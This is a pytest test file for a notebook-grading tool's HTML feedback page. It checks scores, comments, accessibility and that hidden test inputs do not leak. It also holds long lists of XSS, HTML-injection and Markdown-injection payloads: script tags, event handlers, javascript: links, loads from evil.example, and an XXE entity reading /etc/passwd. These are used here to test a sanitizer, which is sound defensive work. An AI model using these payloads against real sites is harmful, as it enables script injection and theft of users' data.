"""The feedback page: what it says, and that nothing hostile is left in it."""

import base64
import copy
import re
import struct
import zlib
from pathlib import Path

import pytest
from bleach._vendor import html5lib

from nnkit.checks.engine import judge
from nnkit.checks.result import Diagnosis, Example, PropertyResult, Result
from nnkit.checks.student import NamespaceStudent
from nnkit.grading import feedback
from nnkit.grading.gradebook import Grade, Review, Writer

from .course import EXERCISES, FULL, NAME, RELEASE, WITH, WRITTEN, by_hand, comment, course, marked

AXE = Path(__file__).parents[2] / "node_modules" / "axe-core" / "axe.min.js"

# Everything that may stand on a page, with the attributes that each may have.
ALLOWED = {name: set() for name in feedback.TAGS} | {
    "html": {"lang"},
    "head": set(),
    "meta": {"charset", "http-equiv", "content", "name"},
    "title": set(),
    "style": set(),
    "body": set(),
    "main": set(),
    "section": set(),
    "div": {"class", "data-tone"},
    "p": {"class"},
    "pre": {"class"},
    "span": {"aria-hidden"},
    "h1": set(),
    "h2": set(),
    "h3": set(),
    "small": set(),
    "caption": {"class"},
    "table": {"class"},
    "thead": {"class"},
    "tr": {"data-state"},
    "th": {"scope", "colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
    "img": {"src", "alt"},
}


def elements(page):
    """Every element, as a browser's parser finds it: name, attributes, text."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    return [
        (node.tag, dict(node.attrib), "".join(node.itertext()))
        for node in tree.iter()
        if isinstance(node.tag, str)
    ]


def assert_harmless(page):
    found = elements(page)
    for name, attributes, _ in found:
        assert name in ALLOWED, name
        assert set(attributes) <= ALLOWED[name], (name, attributes)
        if name == "img":
            assert re.fullmatch(
                r"data:image/(png|jpeg|svg\+xml);base64,[\w+/=]+", attributes["src"]
            )
            assert attributes["alt"].strip()
    assert [name for name, _, _ in found].count("style") == 1
    assert [text for name, _, text in found if name == "style"] == [feedback.STYLE]
    metas = [attributes for name, attributes, _ in found if name == "meta"]
    assert [m["content"] for m in metas if m.get("http-equiv")] == [feedback.CSP]
    assert [m["name"] for m in metas if "name" in m] == ["viewport", "referrer"]
    assert "<!--" not in page
    page.encode()


def with_cells(*cells, attachments=None):
    """The marked notebook with more cells of the student's at its end."""
    made = marked(0.5)
    for number, cell in enumerate(cells):
        node = copy.deepcopy(RELEASE.cells[3])
        node.update(id=f"own-{number}", metadata=type(node)(), **cell)
        made.notebook.cells.append(node)
    return made


def shows(data=None, source="1", **output):
    output = output or {"output_type": "display_data", "data": data, "metadata": {}}
    return feedback.page(
        with_cells({"cell_type": "code", "source": source, "outputs": [output]}).notebook
    )


def writes(text, **more):
    return feedback.page(with_cells({"cell_type": "markdown", "source": text, **more}).notebook)


def png(width=3, height=2):
    def chunk(name, data):
        body = name + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(b"".join(b"\0" + b"\x80" * 3 for _ in range(2)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


PNG = base64.b64encode(png()).decode()

# What the page says


def test_every_property_its_points_and_the_sentence_are_there():
    exercise = EXERCISES["softmax"]
    namespace = {}
    exec(
        "import numpy as np\ndef softmax(z, axis=-1):\n"
        "    e = np.exp(z)\n    return e / e.sum(axis=axis, keepdims=True)",
        namespace,
    )
    result = judge(exercise, NamespaceStudent(namespace), 3, "graded")
    assert 0 < result.points < result.max_points
    made = marked(0.0)
    page = feedback.page(made.notebook, {**made.results, "softmax": result}, title="Softmax")
    text = html5lib.parse(page, namespaceHTMLElements=False)
    shown = re.sub(r"\s+", " ", "".join(text.find("body").itertext()))
    assert result.diagnosis.says.replace("`", "") in shown
    for row in result.properties:
        assert f"{row.title}" in shown
        assert f"{row.points:g} of {row.max_points:g}" in shown
    assert f"softmax {result.points:g} of {result.max_points:g} points" in shown
    assert_harmless(page)


def test_no_input_no_expected_value_and_no_test_is_there():
    secret = Result(
        "softmax",
        0.0,
        10.0,
        [PropertyResult("values", "Ordinary values", "One row.", 0.0, 10.0, "not yet")],
        Diagnosis("", "Your numbers differ from the expected ones."),
        Example([("z", "SECRET-INPUT")], "SECRET-YOURS", "SECRET-EXPECTED"),
        hints=("SECRET-HINT",),
        seed=987654321,
        printed="SECRET-PRINTED",
        warnings=["SECRET-WARNING"],
        step=1,
    )
    made = marked()
    for page in (
        feedback.page(made.notebook, {**made.results, "softmax": secret}),
        feedback.page(_shown_in(made, secret)),
    ):
        assert "Your numbers differ" in page
        assert "SECRET" not in page and "987654321" not in page
        assert "check(" not in page and "check-softmax" not in page


def _shown_in(made, result):
    from nnkit.checks.notebook import Points

    for cell in made.notebook.cells:
        if cell.id == "check-softmax":
            cell.outputs[0]["data"] = Points(result)._repr_mimebundle_()
    return made.notebook


@pytest.mark.parametrize(
    "body",
    [
        "raise ValueError(str(z.tolist()))",
        "raise NameError(f\"name '{z.tolist()}' is not defined\")",
        "return z @ np.full(7, z.max())",
        "print(z.tolist()); return z",
    ],
)
def test_an_error_cannot_carry_a_graded_input_out(body):
    namespace = {}
    source = f"import numpy as np\ndef softmax(z, axis=-1):\n    {body}"
    exec(compile(source, "<cell 1>", "exec"), namespace)
    result = judge(EXERCISES["softmax"], NamespaceStudent(namespace), 3, "graded")
    said = str(result.as_dict())
    made = marked(code=body)
    page = feedback.page(made.notebook, {**made.results, "softmax": result})
    numbers = set(re.findall(r"-?\d+\.\d{3,}|\[\d[^]]*\]", said))
    assert numbers
    assert not [n for n in numbers if n in page]
    assert "Error:" not in page


def test_the_sentence_on_a_name_of_the_students_own_is_kept():
    namespace = {}
    exec(compile("def softmax(z, axis=-1):\n    return npp.exp(z)", "<cell 1>", "exec"), namespace)
    result = judge(EXERCISES["softmax"], NamespaceStudent(namespace), 3, "graded")
    assert result.mistake == "error.name"
    made = marked(code="return npp.exp(z)")
    page = feedback.page(made.notebook, {**made.results, "softmax": result})
    assert "the name <code>npp</code> is not defined" in page


def test_scores_and_comments_of_people_are_there(tmp_path):
    place = course(tmp_path)
    url = f"sqlite:///{place}/gradebook.db"
    made = marked(0.5)
    with Writer(place, NAME, RELEASE) as writer:
        writer.write("anna", made, WITH)
        by_hand(url, "anna", WRITTEN, manual_score=2.5)
        by_hand(url, "anna", "check-softmax", manual_score=9.75)
        comment(url, "anna", WRITTEN, "Nearly: <b>why</b>?\nSee S4.")
        comment(url, "anna", "answer-softmax", "A good name.")
        page = feedback.page(made.notebook, review=writer.review("anna"), title="S", student="anna")
        file = writer.write_feedback("anna", page)
    assert file == place / "feedback" / "anna" / NAME / f"{NAME}.html"
    assert file.read_text("utf-8") == page and oct(file.stat().st_mode)[-3:] == "644"
    assert "9.75 of 10 points, set by hand" in page and "2.5 of 3 points, set by hand" in page
    assert "Nearly: &lt;b&gt;why&lt;/b&gt;?<br>See S4." in page and "A good name." in page
    together = sum(FULL.values()) / 2 - 5 + 9.75 + 2.5
    assert f"<td>{together:g} of {sum(FULL.values()) + 3:g}</td>" in page
    assert_harmless(page)


def test_a_late_submission_says_what_it_cost():
    grades = {"check-softmax": Grade(8.0, 10.0, False, False)}
    made = marked(0.0)
    page = feedback.page(made.notebook, review=Review(grades, {}, 3.0))
    assert "Handed in late</th><td>−3</td>" in page and "<td>5 of 81</td>" in page


def test_a_question_that_nobody_has_graded_says_that_it_waits():
    page = feedback.page(marked().notebook)
    assert "0 of 3 points, waits for your instructor" in page
    assert "Can S4&#x27;s 10, 20, 30" in page or "Can S4's 10, 20, 30" in page


def test_the_page_says_the_same_from_the_notebook_as_from_the_results():
    made = marked(0.5)
    assert feedback.page(made.notebook) == feedback.page(made.notebook, made.results)


def test_headings_tables_and_pictures_can_be_read_aloud():
    page = shows({"image/png": PNG, "text/plain": "<Figure size 640x480>"})
    found = elements(page)
    assert ("html", {"lang": "en"}) in [(name, attributes) for name, attributes, _ in found]
    levels = [int(name[1]) for name, _, _ in found if re.fullmatch("h[1-6]", name)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b - a <= 1 for a, b in zip(levels, levels[1:], strict=False))
    for name, attributes, _ in found:
        if name == "th":
            assert attributes["scope"] in ("row", "col")
    (alt,) = [attributes["alt"] for name, attributes, _ in found if name == "img"]
    assert alt == "Figure drawn by the cell above: <Figure size 640x480>"


def test_the_colours_are_the_books_and_can_be_read():
    book = (Path(__file__).parents[2] / "book" / "_static" / "nnkit.css").read_text()
    light, dark = feedback.STYLE.split("@media (prefers-color-scheme:dark)")
    ours = [dict(re.findall(r"--([\w-]+):(#\w+)", part.split("}")[0])) for part in (light, dark)]
    theirs = [
        dict(re.findall(r"--([\w-]+): (#\w+)", part.split("}")[0]))
        for part in book.split("color-scheme: ")[1:3]
    ]
    for mine, of_the_book in zip(ours, theirs, strict=True):
        assert mine and mine.items() <= of_the_book.items()
        for ink in ("ink", "muted", "ok", "look", "accent"):
            for ground in ("bg", "surface", "accent-bg"):
                assert _contrast(mine[ink], mine[ground]) >= 4.5, (ink, ground)


def _contrast(one, other):
    def light(colour):
        digits = colour[1:] if len(colour) == 7 else "".join(c * 2 for c in colour[1:])
        channels = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
        linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    low, high = sorted((light(one), light(other)))
    return (high + 0.05) / (low + 0.05)


# What is hostile

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/x.png'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='http://evil.example/x.png 2x' alt=x>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='http://evil.example'>x</a>",
    "<iframe src='//evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'><applet code=x></applet>",
    "<form action='//evil.example'><input name=x><button formaction=y>z</button></form>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=prefetch href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<style>body{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';",
    "</style><script>alert(1)</script>",
    "</pre></div></main></body></html><script>alert(1)</script>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div id=nk class=verdict data-tone=ok onclick=alert(1)>x</div>",
    "<table background='//evil.example/x.png'><td background='//evil.example'>x</table>",
    "<td colspan=99999999999 rowspan=-1>x</td>",
    "<th scope='x onclick=alert(1)'>x</th>",
    "<video src='//evil.example' poster='//evil.example'></video><audio src=x autoplay></audio>",
    "<!-- unclosed <script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><script>alert(1)</script></title><textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp><noembed><img src=x onerror=alert(1)></noembed>",
    '<p title="x">y</p><p title=\'>',
    "<b/onclick=alert(1)>x<b",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "\ud800<b>x</b>\x1b[31m\u202e",
    "<" * 2000,
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
]


@pytest.mark.parametrize("hostile", HTML)
def test_nothing_is_left_of_hostile_html(hostile):
    for page in (
        shows({"text/html": hostile}),
        shows({"text/html": ["<table><tr><td>", hostile, "</td></tr></table>"]}),
        shows({"text/plain": hostile}),
        shows({"text/markdown": hostile, "text/latex": hostile, "text/plain": hostile}),
        shows({"application/javascript": hostile, "application/json": hostile}),
        shows({"image/png": PNG, "text/plain": hostile}),
        shows({"image/png": hostile}),
        shows({"image/svg+xml": hostile}),
        shows({"application/vnd.jupyter.widget-view+json": {"model_id": hostile}}),
        shows(output_type="stream", name="stdout", text=hostile),
        shows(output_type="error", ename=hostile, evalue=hostile, traceback=[hostile]),
        shows({}, source=hostile),
        writes(hostile),
        writes(f"a `{hostile}` b\n\n    {hostile}\n\n```html\n{hostile}\n```\n\n$${hostile}$$"),
        writes("![x](attachment:a.png)", attachments={"a.png": {"image/png": hostile}}),
        feedback.page(marked(written=hostile).notebook, title=hostile, student=hostile),
        feedback.page(
            marked().notebook, review=Review({}, {WRITTEN: hostile, "answer-softmax": hostile}, 0.0)
        ),
    ):
        assert_harmless(page)


@pytest.mark.parametrize("hostile", HTML)
def test_nothing_is_left_of_a_hostile_verdict(hostile):
    rows = [PropertyResult("a", hostile, hostile, 0.0, 10.0, "not yet")]
    result = Result("softmax", 0.0, 10.0, rows, Diagnosis("a.b", hostile, hostile), None)
    made = marked()
    assert_harmless(feedback.page(made.notebook, {**made.results, "softmax": result}))


@pytest.mark.parametrize(
    "hostile",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1) 'title')",
        "[x]( data:text/html;base64,PHNjcmlwdD4= )",
        "[x](vbscript:x) [y](file:///etc/passwd) <javascript:alert(1)>",
        "[x]: javascript:alert(1) '\"onclick=alert(1)'\n\n[x] ![x]",
        "![x](javascript:alert(1))",
        "![x](http://evil.example/x.png)",
        '![x" onerror="alert(1)](attachment:a.png)',
        '![x](attachment:a.png "t\\" onerror=\\"alert(1)")',
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        '![x](data:image/png;base64,AAAA" onerror="alert(1))',
        '<http://evil.example/" onclick="alert(1)>',
        "http://evil.example/<script>",
        "# <script>alert(1)</script>\n\n> > > <img src=x onerror=alert(1)>",
        "| a | b |\n|:-:|--:|\n| <script>alert(1)</script> | [x](javascript:y) |",
        '```"><script>alert(1)</script>\nx\n```',
        "``` x onclick=alert(1)\nx\n```",
        "$<script>alert(1)</script>$ and $$\\href{javascript:alert(1)}{x}$$",
        "~~<b onclick=alert(1)>~~ &lt;script&gt; &#x3C;script&#x3E;",
        "<!-- unclosed",
        "</style></title></textarea><script>alert(1)</script>",
        "1. x\n   <iframe src=//evil.example>\n2. <style>*{x:expression(y)}",
    ],
)
def test_nothing_is_left_of_hostile_markdown(hostile):
    pictures = {"a.png": {"image/png": PNG}}
    for page in (
        writes(hostile, attachments=pictures),
        feedback.page(marked(written=hostile).notebook),
    ):
        assert_harmless(page)


def test_what_is_honest_is_left():
    table = "<table border='1' class='dataframe'><thead><tr><th></th><th>loss</th></tr></thead>"
    table += "<tbody><tr><th>0</th><td>0.5</td></tr></tbody></table><style>.x{}</style>"
    page = shows({"text/html": table, "text/plain": "x"})
    assert "<th>loss</th>" in page and "<td>0.5</td>" in page and ".x{}" not in page
    page = writes(
        "# Why\n\nIt is *one*, as $a_i b_i < 1$ says:\n\n- a\n- [b](https://x.org)\n\n`c<d`"
    )
    for part in (
        "<h4>Why</h4>",
        "<em>one</em>",
        "<code>a_i b_i &lt; 1</code>",
        "<code>c&lt;d</code>",
    ):
        assert part in page
    assert "b (https://x.org)" in page
    page = writes("![A sketch](attachment:a.png)", attachments={"a.png": {"image/png": PNG}})
    assert f'src="data:image/png;base64,{PNG}"' in page and 'alt="A sketch"' in page


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        (png(), True),
        (b"\xff\xd8\xff" + b"x" * 20, False),
        (b"GIF89a" + b"x" * 20, False),
        (b"<svg onload=alert(1)>", False),
        (png()[:10], False),
        (png(20_000, 2), False),
        (png(0, 2), False),
        (b"", False),
    ],
)
def test_a_png_is_known_by_its_first_bytes(data, shown):
    encoded = base64.b64encode(data).decode()
    page = shows({"image/png": encoded[:5] + "\n" + encoded[5:], "text/plain": "x"})
    assert ("data:image/png" in page) == shown
    assert ("cannot be shown" in page) != shown or "jpeg" in page


@pytest.mark.parametrize(
    "output",
    [
        {},
        {"output_type": 3},
        {"output_type": "display_data", "data": 3},
        {"output_type": "display_data", "data": {"text/html": {"a": 1}, "image/jpeg": 3}},
        {"output_type": "display_data", "data": {"text/plain": [1, None, "a"]}},
        {"output_type": "stream", "text": None},
        {"output_type": "error", "ename": 1, "evalue": [2]},
    ],
)
def test_an_output_of_an_odd_form_stops_nothing(output):
    made = with_cells({"cell_type": "code", "source": "1", "outputs": [output]})
    assert_harmless(feedback.page(made.notebook))


def test_an_odd_attachment_stops_nothing():
    for odd in (3, [1], {"a.png": 3}, {"a.png": {"image/png": 3}}, {"a.png": {3: PNG}}):
        assert_harmless(writes("![x](attachment:a.png)", attachments=odd))


@pytest.mark.parametrize(
    "huge",
    [
        "x" * 5_000_000,
        "<b>" * 4_900,
        "<b>" * 16_000,
        "<a><b><i>" * 1_600,
        "<div>" * 2_000 + "<p>" * 2_900,
    ]
    + [
        "<b><object></b></object>" * 1_200,
        "[" * 19_000,
        ">" * 19_000,
        "_*" * 9_000,
        "*a **b " * 2_800,
        "- " * 9_000,
        "`" * 19_000,
        "&#" * 20_000,
    ],
)
def test_what_is_huge_or_deep_is_cut_and_quick(huge):
    import time

    start = time.process_time()
    pages = [shows({"text/html": huge}), shows({"text/plain": huge}), writes(huge)]
    assert time.process_time() - start < 10
    assert all(len(page) < 400_000 for page in pages)


def test_many_tables_share_the_room_of_a_page():
    table = {
        "output_type": "display_data",
        "data": {"text/html": "<b>x</b>" * 1000},
        "metadata": {},
    }
    made = with_cells(*[{"cell_type": "code", "source": "1", "outputs": [table]}] * 9)
    page = feedback.page(made.notebook)
    assert page.count("too long to be shown") == 7 and page.count("<b>x</b>") == 2000


def test_many_pictures_share_the_room_of_a_page():
    large = {"image/png": base64.b64encode(png() + b"x" * 3_900_000).decode()}
    output = {"output_type": "display_data", "data": large, "metadata": {}}
    made = with_cells(*[{"cell_type": "code", "source": "1", "outputs": [output]}] * 9)
    page = feedback.page(made.notebook)
    assert page.count("The page is full") == 6 and len(page) < 22_000_000


def test_many_outputs_are_cut():
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": f"line {i}"} for i in range(9999)
    ]
    made = with_cells({"cell_type": "code", "source": "1", "outputs": outputs})
    page = feedback.page(made.notebook)
    assert "9949 more outputs are not shown." in page and "line 50<" not in page


# In a browser


@pytest.mark.browser
@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280])
def test_a_browser_asks_for_nothing_runs_nothing_and_axe_finds_nothing(
    browser, tmp_path, theme, width
):
    drawing = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='alert(1)'/>"
    cells = [
        {"cell_type": "code", "source": "x" * 300, "outputs": [
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": hostile}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": drawing}},
        ]}
        for hostile in HTML
    ]  # fmt: skip
    made = with_cells(*cells, {"cell_type": "markdown", "source": "\n\n".join(HTML)})
    made.notebook.cells[-1].pop("outputs")
    review = Review({}, {WRITTEN: "Nearly."}, 1.0)
    file = tmp_path / "page.html"
    file.write_text(feedback.page(made.notebook, review=review, title="Softmax", student="anna"))
    context = browser.new_context(color_scheme=theme, viewport={"width": width, "height": 800})
    tab = context.new_page()
    asked, dialogs, errors = [], [], []
    tab.on("request", lambda request: asked.append(request.url[:60]))
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.on("console", lambda message: errors.append(message.text))
    tab.goto(file.as_uri())
    assert [url for url in asked if not url.startswith("data:image/")] == [file.as_uri()[:60]]
    assert not dialogs and not errors
    assert tab.evaluate("document.documentElement.scrollWidth") <= width
    # The page's own policy keeps axe out, so it looks at the same page without the policy.
    bare = tmp_path / "bare.html"
    bare.write_text(file.read_text().replace(feedback.CSP.replace("'", "'"), "img-src data:"))
    tab.goto(bare.as_uri())
    tab.add_script_tag(path=AXE)
    found = tab.evaluate("axe.run().then(r => r.violations.map(v => [v.id, v.nodes[0].html]))")
    assert found == []
    context.close()
